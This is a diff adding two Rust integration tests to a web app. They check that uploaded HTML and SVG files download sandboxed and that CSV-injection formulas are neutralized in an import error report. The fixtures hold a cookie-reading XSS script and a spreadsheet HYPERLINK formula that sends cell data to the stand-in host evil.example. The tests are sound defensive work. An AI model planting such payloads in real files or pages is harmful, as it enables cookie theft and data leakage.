@@ -225,6 +225,35 @@ async fn content_that_contradicts_the_name_fails_with_the_reason() {
 }
 
 #[tokio::test]
+async fn uploaded_html_and_svg_download_as_sandboxed_bytes_never_as_a_page() {
+    let org = Org::new().await;
+    let app = &org.app;
+    let project = app.project(&org.slug, "Web").await;
+    let html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>".to_vec();
+    // Without a prolog, an SVG reads as plain text: its name says SVG.
+    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>"#;
+    // The same SVG with an XML prolog, under a name the bytes do not
+    // contradict: read as `text/xml`, which a browser renders (and runs).
+    let xml = [br#"<?xml version="1.0"?>"#.as_slice(), svg.as_slice()].concat();
+    let form = Form::new()
+        .part("file", part("x.html", html))
+        .part("file", part("drawing.svg", svg.to_vec()))
+        .part("file", part("drawing.xml", xml));
+    assert_eq!(upload(app, &org.slug, &project, form, false).await.status(), 303);
+    let files = files_when(app, &org, &project, |files| files.len() == 3 && all_settled(files)).await;
+    for name in ["x.html", "drawing.svg", "drawing.xml"] {
+        let id = named(&files, name)["id"].as_str().unwrap().to_owned();
+        let download = app.get(&format!("/o/{}/files/{id}/download", org.slug)).await;
+        assert_eq!(download.status(), 200, "{name}");
+        let headers = download.headers();
+        assert_eq!(headers[header::CONTENT_TYPE], "application/octet-stream", "{name}");
+        assert_eq!(headers[header::CONTENT_SECURITY_POLICY], "sandbox; default-src 'none'", "{name}");
+        assert_eq!(headers["x-content-type-options"], "nosniff", "{name}");
+        assert!(headers[header::CONTENT_DISPOSITION].to_str().unwrap().starts_with("attachment;"), "{name}");
+    }
+}
+
+#[tokio::test]
 async fn file_names_are_never_paths_and_download_safely() {
     let org = Org::new().await;
     let app = &org.app;
@@ -439,6 +468,37 @@ async fn an_export_imports_as_it_is_and_bad_rows_are_reported_with_their_lines()
         .await
         .unwrap();
     assert!(location(&refused).ends_with("/import?error=no_file"));
+}
+
+#[tokio::test]
+async fn the_refused_rows_file_neutralizes_formulas_in_the_uploaded_header_too() {
+    let org = Org::new().await;
+    let app = &org.app;
+    let project = app.project(&org.slug, "Formulas").await;
+    let csv = "Name,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&B3,\"\"Open\"\")\",@SUM(1)\r\n\
+               ,+cmd,x\r\nGood,y,z\r\n";
+    let import = upload_csv(app, &org.slug, &project, csv).await;
+    let form = org.form(&[("import", &import), ("title", "0")]);
+    app.ok("start_import", &form).await;
+    let ended = import_ended(app, &org, &import).await;
+    assert_eq!(
+        (ended["import"]["rows_imported"].as_i64(), ended["import"]["rows_failed"].as_i64()),
+        (Some(1), Some(1))
+    );
+    let report = app.get(&format!("/o/{}/imports/{import}/errors.csv", org.slug)).await.text().await.unwrap();
+    let records: Vec<Vec<String>> = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(report.as_bytes())
+        .records()
+        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    assert_eq!(
+        records[0],
+        ["line", "error", "Name", "'=HYPERLINK(\"http://evil.example/?d=\"&B3,\"Open\")", "'@SUM(1)"],
+        "{report}"
+    );
+    // (Its line number is left to the import's own tests.)
+    assert_eq!(records[1][2..], ["", "'+cmd", "x"]);
 }
 
 #[tokio::test]
